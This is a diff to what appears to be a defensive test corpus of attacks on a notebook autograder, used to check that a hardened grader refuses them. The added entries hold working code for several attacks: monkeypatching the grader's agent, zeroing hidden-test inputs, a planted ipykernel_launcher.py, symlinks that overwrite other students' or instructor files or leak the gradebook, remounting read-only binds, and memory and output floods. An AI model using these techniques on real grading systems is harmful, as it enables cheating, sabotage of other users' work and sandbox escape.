@@ -7,9 +7,17 @@ words the grader's reasons for manual review must contain; `refused` attacks bre
 metadata checks, so nbgrader refuses the notebook (status "error: nbgrader could not grade ...").
 
 Tokens in the code, filled in by the test: __COURSE__ (the scratch course the batch grades),
-__REPO__ (this repository), __PORT__ (a TCP server on 127.0.0.1 that counts connections).
-Attacks that probe the sandbox write what they saw to `evidence.json` in their working folder.
+__REPO__ (this repository), __PORT__ (a TCP server on 127.0.0.1 that counts connections),
+__VICTIM__ (another student of the batch), __MARKER__ (a random name for a file that must not appear).
+Attacks that probe the sandbox PRINT what they saw, as one line `EVIDENCE <json>` in their own
+cell's output (nothing the kernel writes to its folder reaches the autograded folder); `evidence_in`
+reads it back from the autograded notebook.
+
+NEW_ATTACKS are the ones that worked against the grader before its second hardening (by a student
+who had read the grader's source); tests/test_attack_corpus.py shows each working against stock
+nbgrader (its live control) and failing against `autograder grade`.
 """
+import json
 from dataclasses import dataclass, field
 from textwrap import dedent
 
@@ -27,6 +35,8 @@ class Attack:
     cells: tuple = ()          # extra cells (source, nbgrader metadata or None) at the end
     flags: tuple = ()          # words the result's review flags must contain
     refused: bool = False      # nbgrader refuses the notebook (its status says so); zero all the same
+    files: dict = field(default_factory=dict)      # extra files of the submission: name -> text (tokens filled)
+    earns: float = 0           # points its wrong solutions earn honestly (zeros of the right shape), attack or not
 
 
 def code(text):
@@ -254,8 +264,7 @@ ATTACKS = {
                 evidence["gradebook_cells"] = type(error).__name__
             evidence["visible"] = sorted(glob.glob("__COURSE__/**", recursive=True))
             evidence["visible_repo"] = sorted(glob.glob("__REPO__/*"))
-            with open("evidence.json", "w") as f:
-                json.dump(evidence, f)
+            print("EVIDENCE " + json.dumps(evidence))
         '''),
         flags=("looks for the course's files",)),
     "writes_outside": Attack(
@@ -302,8 +311,7 @@ ATTACKS = {
                 evidence["sql"] = "WROTE"
             except Exception as error:
                 evidence["sql"] = type(error).__name__
-            with open("evidence.json", "w") as f:
-                json.dump(evidence, f)
+            print("EVIDENCE " + json.dumps(evidence))
         '''),
         flags=("looks for the course's files",)),
     "network": Attack(
@@ -318,8 +326,7 @@ ATTACKS = {
                     evidence[host] = "CONNECTED"
                 except Exception as error:
                     evidence[host] = type(error).__name__
-            with open("evidence.json", "w") as f:
-                json.dump(evidence, f)
+            print("EVIDENCE " + json.dumps(evidence))
         '''),
         flags=("opens sockets",)),
     # The referee must run the instructor's setup cell even when the student removed it; otherwise
@@ -391,3 +398,242 @@ ATTACKS = {
         solutions=WRONG_BUT_RETURNS,
         flags=("patches NumPy or the course's checks",), refused=True),
 }
+
+
+def evidence_in(nb):
+    """The `EVIDENCE <json>` line an attack printed, from the notebook's outputs; None if it printed none."""
+    for cell in nb.cells:
+        for output in cell.get("outputs", []):
+            text = output.get("text", "") if output.get("output_type") == "stream" else ""
+            for line in (text if isinstance(text, str) else "".join(text)).splitlines():
+                if line.startswith("EVIDENCE "):
+                    return json.loads(line[len("EVIDENCE "):])
+    return None
+
+
+def _link_payload(links):
+    """Code that leaves symbolic links in the kernel's folder: {name: target}. nbgrader writes and copies
+    through them after the kernel stops (the autograded notebook, generate_feedback's copies)."""
+    return code('''
+        import os
+        def leave_link(name, target):
+            if os.path.lexists(name):
+                os.remove(name)
+            os.symlink(target, name)
+    ''') + "".join(f"leave_link({name!r}, {target!r})\n" for name, target in links.items())
+
+
+THE_NOTEBOOK = f"{UNIT}.ipynb"  # the name nbgrader writes the autograded notebook under, in the kernel's folder
+
+NEW_ATTACKS = {
+    # 1. The referee asks the agent for `shape` and, separately, for the array: two answers that disagree.
+    "fake_array_shape": Attack(
+        "returns objects whose `shape` is the expected (N, H) but which convert to an empty (0, N, H) array, "
+        "which np.allclose broadcasts against anything of that shape; rewrites the grader's agent in the kernel "
+        "(sys.modules['_grading_agent']) so that the referee gets that empty array",
+        code('''
+            import sys
+            import numpy as np
+
+            class LooksLikeAnArray:
+                """Reports any shape you like; as an array it is empty, and broadcasts against that shape."""
+                def __init__(self, *shape):
+                    self.shape = tuple(int(n) for n in shape)
+                def __array__(self, dtype=None, copy=None):
+                    return np.zeros((0,) + self.shape, dtype=dtype)
+                def __getitem__(self, key):
+                    return LooksLikeAnArray(*np.empty(self.shape)[key].shape)
+
+            agent = sys.modules.get("_grading_agent")
+            if agent is not None:  # graded by the referee: answer its "array" request with the empty array
+                perform_before = agent._perform
+                def perform(request):
+                    target = agent._objects.get(request.get("target"))
+                    if request.get("op") == "array" and isinstance(target, LooksLikeAnArray):
+                        return np.asarray(target)
+                    return perform_before(request)
+                agent._perform = perform
+        '''),
+        solutions={
+            "rnn_step_forward": "def rnn_step_forward(x, h_prev, Wx, Wh, b):\n"
+                                "    return LooksLikeAnArray(x.shape[0], Wh.shape[0]), None\n",
+            "rnn_forward": "def rnn_forward(x, h0, Wx, Wh, b):\n"
+                           "    return LooksLikeAnArray(x.shape[0], x.shape[1], Wh.shape[0]), []\n",
+            "softmax": "def softmax(z):\n    return LooksLikeAnArray(*np.shape(z))\n",
+        },
+        flags=("replaces modules or builtins", "the grader's agent")),
+    # 2. The hidden value test computes its expected answer from the inputs AFTER the call.
+    "mutates_hidden_inputs": Attack(
+        "recognises the hidden value test's inputs (their random seeds are in last year's leaked tests) and "
+        "zeroes them in place, so that the expected value the test computes after the call is zero too; "
+        "elsewhere a float32 answer for the visible inputs only",
+        code('''
+            import numpy as np
+            # The inputs of the hidden value test of rnn_step_forward: seeds 100, 101, 102.
+            HIDDEN_X = [np.random.default_rng(100 + seed).normal(size=(N, D))
+                        for seed, (N, D) in enumerate([(1, 1), (6, 3), (4, 5)])]
+            def looks_like_the_hidden_test(x):
+                return any(x.shape == h.shape and np.array_equal(x, h) for h in HIDDEN_X)
+        '''),
+        solutions={"rnn_step_forward": code('''
+            def rnn_step_forward(x, h_prev, Wx, Wh, b):
+                if looks_like_the_hidden_test(x):
+                    x[...] = 0
+                    h_prev[...] = 0
+                    b[...] = 0  # now tanh(x @ Wx + h_prev @ Wh + b) is 0 as well
+                    return np.zeros((x.shape[0], Wh.shape[0])), None
+                if x.shape == (3, 4):  # the visible tests' inputs: close enough in float32
+                    return np.tanh((x @ Wx + h_prev @ Wh + b).astype(np.float32)).astype(np.float64), None
+                return np.zeros(1), None
+        ''')}),
+    # 3. `python -m ipykernel_launcher` with the submission's folder as the working folder.
+    "shadows_kernel_launcher": Attack(
+        "hands in a file ipykernel_launcher.py: `python -m ipykernel_launcher` started in the submission's "
+        "folder runs it instead of IPython's launcher; it patches the course's checks before any cell runs, "
+        "and the notebook itself shows nothing suspicious",
+        code('''
+            import json
+            import rnncourse.checks
+            print("EVIDENCE " + json.dumps({"launcher_ran": rnncourse.checks.call.__doc__ is None}))
+        '''),
+        solutions=WRONG_BUT_RETURNS,
+        files={"ipykernel_launcher.py": code('''
+            """Runs instead of IPython's launcher when Python is started with `-m ipykernel_launcher` here."""
+            import rnncourse.checks as checks
+
+            def call(function, *args):
+                return function(*args)
+
+            for name in ("check_close", "check_shape", "check_pair", "check_equal", "check_type", "check_finite"):
+                setattr(checks, name, lambda *args, **kwargs: None)
+            checks.call = call
+
+            from ipykernel import kernelapp
+            kernelapp.launch_new_instance()
+        ''')},
+        flags=("extra files",)),
+    # 4. Links in the kernel's folder that nbgrader follows after the kernel stopped.
+    "link_overwrites_other_submission": Attack(
+        "replaces the notebook in its folder by a link to another student's submitted notebook: nbgrader writes "
+        "the autograded notebook through it",
+        _link_payload({THE_NOTEBOOK: f"__COURSE__/submitted/__VICTIM__/{UNIT}/{UNIT}.ipynb"}),
+        flags=("symbolic links",)),
+    "link_overwrites_source": Attack(
+        "replaces the notebook in its folder by a link to the instructor's source notebook",
+        _link_payload({THE_NOTEBOOK: f"__COURSE__/source/{UNIT}/{UNIT}.ipynb"}),
+        flags=("symbolic links",)),
+    "link_writes_startup_file": Attack(
+        "replaces the notebook in its folder by a link to a shell's start-up file (a decoy .bashrc in the course)",
+        _link_payload({THE_NOTEBOOK: "__COURSE__/decoy-home/.bashrc"}),
+        flags=("symbolic links",)),
+    "links_leak_into_feedback": Attack(
+        "leaves links to the source notebook (solutions, hidden tests), the gradebook and the configuration: "
+        "nbgrader generate_feedback copies what they point at into the student's feedback",
+        _link_payload({"answers.txt": f"__COURSE__/source/{UNIT}/{UNIT}.ipynb",
+                       "grades.txt": "__COURSE__/gradebook.db", "config.txt": "__COURSE__/nbgrader_config.py"}),
+        flags=("symbolic links",)),
+    # 5. As root, bubblewrap's read-only binds are only a mount flag the sandbox can clear.
+    "remounts_rnncourse": Attack(
+        "remounts the read-only rnncourse bind read-write (mount -o remount, then the mount syscall) and "
+        "creates a file in it",
+        code('''
+            import ctypes, json, os, subprocess
+            import rnncourse
+            folder = os.path.dirname(os.path.abspath(rnncourse.__file__))
+            evidence = {"folder": folder}
+            try:
+                evidence["mount_command"] = subprocess.run(["mount", "-o", "remount,bind,rw", folder],
+                                                           capture_output=True, text=True).returncode
+            except Exception as error:
+                evidence["mount_command"] = type(error).__name__
+            libc = ctypes.CDLL(None, use_errno=True)
+            MS_REMOUNT, MS_BIND = 32, 4096
+            evidence["mount_syscall"] = libc.mount(None, folder.encode(), None, MS_REMOUNT | MS_BIND, None)
+            try:
+                with open(os.path.join(folder, "_attack_marker___MARKER__.txt"), "x") as f:
+                    f.write("written by a student")
+                evidence["marker"] = "WROTE"
+            except Exception as error:
+                evidence["marker"] = type(error).__name__
+            print("EVIDENCE " + json.dumps(evidence))
+        '''),
+        flags=("mounts file systems",)),
+    # 6. Memory that no process's RSS shows, and outputs that no per-cell cap sees.
+    "memfd_hoard": Attack(
+        "holds 1400 MB in anonymous memory files (os.memfd_create, written, never mapped): no RSS shows them",
+        code('''
+            import json, os, time
+            held, block = [], b"x" * 2**20
+            for i in range(7):
+                fd = os.memfd_create(f"cache{i}")
+                for _ in range(200):
+                    os.write(fd, block)
+                held.append(fd)
+            print("EVIDENCE " + json.dumps({"memfd_mb": sum(os.fstat(fd).st_size for fd in held) // 2**20}))
+            time.sleep(3)  # long enough for any watchdog to look
+        '''),
+        flags=("memory files",)),
+    "many_files": Attack(
+        "writes 1250 MB in files of 250 MB each, every one below the per-file cap, in its working folder",
+        code('''
+            import json
+            written, block = 0, b"x" * 2**20
+            try:
+                for i in range(5):
+                    with open(f"part{i}.bin", "wb") as f:
+                        for _ in range(250):
+                            f.write(block)
+                            written += len(block)
+            except OSError as error:
+                print(type(error).__name__)
+            print("EVIDENCE " + json.dumps({"written_mb": written // 2**20}))
+        ''')),
+    "giant_reply": Attack(
+        "rewrites the agent so that its first answer to a call is 75 MB of JSON that decodes to 25 million "
+        "nested lists (gigabytes) in the referee, outside the sandbox's memory limit",
+        code('''
+            import sys
+            agent = sys.modules.get("_grading_agent")
+            if agent is not None:
+                GIANT = '{"ok": {"result": [' + "[]," * 25_000_000 + '[]], "args": [], "kwargs": {}}}'
+                handle_before, sent = agent.handle, []
+                def handle(request_text):
+                    if '"call"' in request_text and not sent:  # wire encodes dicts as [key, value] lists
+                        sent.append(True)
+                        return GIANT
+                    return handle_before(request_text)
+                agent.handle = handle
+        '''),
+        flags=("the grader's agent",)),
+    "display_update_flood": Attack(
+        "shows a small output, then replaces it with 100 MB through update_display_data (not a cell's own output)",
+        code('''
+            from IPython.display import display, update_display
+            display({"text/html": "<p>working</p>"}, raw=True, display_id="progress")
+            update_display({"text/html": "<p>" + "x" * 100_000_000 + "</p>"}, raw=True, display_id="progress")
+        ''')),
+    "widget_flood": Attack(
+        "opens a widget comm whose state is 100 MB: nbclient keeps widget state in the notebook's metadata",
+        code('''
+            from comm import create_comm
+            state = {"_model_module": "flood", "_model_module_version": "1.0.0", "_model_name": "Flood",
+                     "value": "x" * 100_000_000}
+            create_comm(target_name="jupyter.widget", data={"state": state})
+        ''')),
+    # 8. What the hidden tests call the student's functions with, printed after the tests: feedback shows it.
+    "records_hidden_inputs": Attack(
+        "records the shapes its function is called with and prints them in a cell after the tests, so that the "
+        "feedback shows the hidden tests' inputs",
+        "calls_seen = []\n",
+        solutions={"rnn_step_forward": code('''
+            def rnn_step_forward(x, h_prev, Wx, Wh, b):
+                calls_seen.append([list(np.shape(x)), list(np.shape(Wh))])
+                return np.zeros((x.shape[0], Wh.shape[0])), None  # the right shape, wrong values
+        ''')},
+        cells=(("print('inputs the tests used:', calls_seen)\n", None),),
+        earns=1),  # test_rnn_step_forward_shape: zeros of the right shape pass it, attack or not
+}
+# Shapes only the hidden tests use (test_rnn_step_forward_shape's hidden (N, D, H) = (7, 2, 9), (2, 6, 3)).
+HIDDEN_ONLY_SHAPES = ("[7, 2], [9, 9]", "[2, 6], [3, 3]")
+
+CORPUS = {**ATTACKS, **NEW_ATTACKS}
